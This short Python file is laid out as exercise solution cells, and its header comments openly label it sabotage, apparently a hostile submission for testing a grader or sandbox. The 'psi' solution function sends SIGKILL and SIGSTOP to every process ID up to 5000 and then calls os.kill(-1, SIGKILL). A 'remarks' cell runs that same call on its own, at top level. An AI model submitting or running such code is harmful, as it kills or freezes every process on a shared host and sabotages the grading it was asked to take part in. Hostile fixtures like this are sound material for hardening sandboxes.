# Tries: to kill and stop every process it can see.
# Earns: nothing
# Goal: sabotage

# %%
import os
import signal


# %% solution="psi"
def psi(p, q):
    for number in (signal.SIGKILL, signal.SIGSTOP):
        for pid in range(1, 5000):
            if pid != os.getpid():
                try:
                    os.kill(pid, number)
                except OSError:
                    pass
    os.kill(-1, signal.SIGKILL)


# %% solution="remarks"
os.kill(-1, signal.SIGKILL)
